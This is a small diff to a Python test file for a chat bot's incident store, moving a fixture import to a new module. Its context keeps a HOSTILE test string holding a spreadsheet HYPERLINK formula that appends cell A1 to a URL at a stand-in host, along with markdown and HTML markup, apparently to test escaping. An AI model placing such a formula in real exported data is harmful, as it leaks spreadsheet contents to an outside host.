@@ -18,7 +18,7 @@ from bot.model import Actor, Step
 from bot.period import Period
 from bot.store import incidents, marks
 from bot.store.sight import Sight
-from tests.test_store_incidents import FINDING, NOON, opened, opening
+from tests.store_house import FINDING, NOON, opened, opening
 
 HOSTILE = '=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>'
 
